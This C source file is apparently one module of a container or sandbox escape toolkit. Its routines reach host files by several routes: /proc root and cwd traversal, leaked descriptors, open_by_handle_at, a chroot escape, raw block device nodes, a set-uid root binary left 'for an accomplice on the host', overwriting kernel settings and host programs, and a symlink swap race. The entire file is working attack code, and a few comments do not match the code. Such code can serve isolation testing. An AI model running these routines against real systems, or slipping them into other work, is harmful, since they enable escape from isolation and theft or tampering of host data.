/* Ways to a file of the host. */
#include "attack.h"
#include <dirent.h>
#include <sys/sysmacros.h>

/* PATH TEXT: reads it, and writes TEXT to it. */
static int direct(int argc, char **argv) {
  if (argc < 2) return 64;
  loot(argv[0]);
  overwrite(argv[0], argv[1]);
  return hold();
}

/* PATH: through the root and the working directory of every process seen, PID 1 first. */
static int proc_root(int argc, char **argv) {
  if (argc < 1) return 64;
  DIR *proc = opendir("/proc");
  char path[4096];
  for (struct dirent *entry; proc && (entry = readdir(proc));) {
    if (!is_number(entry->d_name)) continue;
    snprintf(path, sizeof path, "/proc/%s/root%s", entry->d_name, argv[0]);
    loot(path);
    snprintf(path, sizeof path, "/proc/%s/cwd/../../../../../../..%s", entry->d_name, argv[0]);
    loot(path);
  }
  return hold();
}

/* PATH: climbs from every folder that is open in this process or any other one. */
static int leaked_descriptor(int argc, char **argv) {
  if (argc < 1) return 64;
  char path[4096];
  for (int fd = 0; fd < 1024; fd++) {
    snprintf(path, sizeof path, "../../../../../../../../../../../..%s", argv[0]);
    loot_at(fd, path);
    loot_at(fd, argv[0] + 1);
  }
  DIR *proc = opendir("/proc");
  for (struct dirent *entry; proc && (entry = readdir(proc));) {
    if (!is_number(entry->d_name)) continue;
    for (int fd = 0; fd < 64; fd++) {
      snprintf(path, sizeof path, "/proc/%s/fd/%d/../../../../../../../../../../..%s", entry->d_name, fd, argv[0]);
      loot(path);
      snprintf(path, sizeof path, "/proc/%s/fd/%d%s", entry->d_name, fd, argv[0]);
      loot(path);
    }
  }
  return hold();
}

/* HANDLE PATH: a file handle made outside, opened here: it names an inode of the file system, whatever the root is. */
static int handle(int argc, char **argv) {
  if (argc < 1) return 64;
  struct {
    struct file_handle head;
    unsigned char bytes[MAX_HANDLE_SZ];
  } wanted = {.head = {.handle_bytes = 0}};
  unsigned kind = 0, byte = 0, count = 0;
  char *at = strchr(argv[0], ':');
  if (!at || sscanf(argv[0], "%x", &kind) != 1) return 64;
  wanted.head.handle_type = (int)kind;
  for (at++; count < MAX_HANDLE_SZ && sscanf(at, "%2x", &byte) == 1; at += 2) wanted.head.f_handle[count++] = (unsigned char)byte;
  wanted.head.handle_bytes = count;
  const char *places[] = {"/", "/tmp", "/etc", "/usr", "/dev/shm"};
  for (size_t place = 0; place < sizeof places / sizeof *places; place++) {
    int mount = open(places[place], O_RDONLY | O_DIRECTORY);
    loot_fd(open_by_handle_at(mount, &wanted.head, O_RDONLY));
  }
  return hold();
}

/* PATH: out of a second root by the working directory left behind. */
static int chroot_escape(int argc, char **argv) {
  if (argc < 1) return 64;
  mkdir("/tmp", 0777);
  mkdir("/tmp/cell", 0755);
  int outside = open("/", O_RDONLY | O_DIRECTORY);
  if (chroot("/tmp/cell") < 0) perror("chroot");
  if (fchdir(outside) < 0) perror("fchdir");
  for (int up = 0; up < 64; up++)
    if (chdir("..") < 0) break;
  if (chroot(".") < 0) perror("chroot");
  loot(argv[0]);
  return hold();
}

/* MAJOR MINOR: the disk itself, by a device node made here. */
static int device_node(int argc, char **argv) {
  if (argc < 2) return 64;
  dev_t device = makedev((unsigned)atoi(argv[0]), (unsigned)atoi(argv[1]));
  const char *places[] = {"/tmp/disk", "/dev/disk", "/dev/shm/disk", "/run/disk", "/disk", "/workspace/disk"};
  for (size_t place = 0; place < sizeof places / sizeof *places; place++) {
    unlink(places[place]);
    if (mknod(places[place], S_IFBLK | 0600, device) == 0) loot(places[place]);
  }
  return hold();
}

/* PATH NAME: changes a file of the template in place, through a hard link, a rename over it and a bind of it. */
static int template_file(int argc, char **argv) {
  if (argc < 2) return 64;
  char linked[4096];
  snprintf(linked, sizeof linked, "%s.link", argv[0]);
  overwrite(argv[0], argv[1]);
  if (link(argv[0], linked) == 0) overwrite(linked, argv[1]);
  chmod(argv[0], 0777);
  if (truncate(argv[0], 1) == 0) overwrite(argv[0], argv[1]);
  return hold();
}

static int copy_self(const char *to, mode_t mode) {
  int from = open("/proc/self/exe", O_RDONLY), into = open(to, O_WRONLY | O_CREAT | O_TRUNC, 0755);
  char buffer[65536];
  ssize_t count;
  if (from < 0 || into < 0) return -1;
  while ((count = read(from, buffer, sizeof buffer)) > 0)
    if (write(into, buffer, (size_t)count) != count) return -1;
  close(from);
  int done = fchown(into, 0, 0) | fchmod(into, mode);
  close(into);
  return done;
}

/* PATH: leaves a set-uid root program on the disk, for an accomplice on the host. */
static int setuid_file(int argc, char **argv) {
  if (argc < 1) return 64;
  copy_self(argv[0], 06755);
  return hold();
}

/* PATH TEXT [PATH TEXT …]: settings of the kernel. */
static int write_files(int argc, char **argv) {
  for (int at = 0; at + 1 < argc; at += 2) overwrite(argv[at], argv[at + 1]);
  return hold();
}

/* PATH…: programs that run on the host, by the links that lead to them. */
static int program_file(int argc, char **argv) {
  (void)argc, (void)argv;
  char path[64];
  for (int pid = 1; pid < 64; pid++) {
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) continue;
    /* Not by O_TRUNC, which a running program refuses: by a descriptor opened anew, and by its owner's rights. */
    fchmod(fd, 0777);
    fchown(fd, 0, 0);
    futimens(fd, (struct timespec[]){{1, 0}, {1, 0}});
    close(fd);
  }
  return hold();
}

/* PATH…: all of them, and what the folders among them hold. */
static int loot_all(int argc, char **argv) {
  for (int at = 0; at < argc; at++) {
    DIR *folder = opendir(argv[at]);
    loot(argv[at]);
    for (struct dirent *entry; folder && (entry = readdir(folder));) {
      printf("%s\n", entry->d_name);
      loot_at(dirfd(folder), entry->d_name);
    }
  }
  return hold();
}

/* PATH…: made, or written over. */
static int make_all(int argc, char **argv) {
  for (int at = 0; at < argc; at++) {
    int fd = open(argv[at], O_WRONLY | O_CREAT, 0644);
    if (fd >= 0 && write(fd, "// made by the attack\n", 22) < 0) perror(argv[at]);
    if (mkfifo(argv[at], 0644) < 0) continue;
  }
  return hold();
}

/* SECONDS PATH SECRETPATH: a name that is by turns a folder, a file and a link to the host. */
static int name_race(int argc, char **argv) {
  if (argc < 3) return 64;
  char link_path[4096], file_path[4096];
  snprintf(link_path, sizeof link_path, "%s.a", argv[1]);
  snprintf(file_path, sizeof file_path, "%s.b", argv[1]);
  int fd = open(file_path, O_WRONLY | O_CREAT | O_TRUNC, 0666);
  if (write(fd, "plain\n", 6) != 6) perror("write");
  close(fd);
  unlink(link_path);
  if (symlink(argv[2], link_path) < 0) perror("symlink");
  if (link(file_path, argv[1]) < 0 && errno != EEXIST) perror("link");
  write(1, "\ndone\n", 6);
  struct timespec now, end;
  clock_gettime(CLOCK_MONOTONIC, &end);
  end.tv_sec += atoi(argv[0]);
  do {
    syscall(SYS_renameat2, AT_FDCWD, link_path, AT_FDCWD, argv[1], 2 /* RENAME_EXCHANGE */);
    clock_gettime(CLOCK_MONOTONIC, &now);
  } while (now.tv_sec < end.tv_sec);
  return 0;
}

const struct program files[] = {
    {"file-direct", direct},           {"file-proc-root", proc_root}, {"file-descriptor", leaked_descriptor},
    {"file-handle", handle},           {"file-chroot", chroot_escape}, {"file-device", device_node},
    {"file-template", template_file},  {"file-setuid", setuid_file},  {"write-files", write_files},
    {"file-program", program_file},    {"file-race", name_race},      {"file-loot", loot_all},
    {"file-make", make_all},           {0, 0},
};
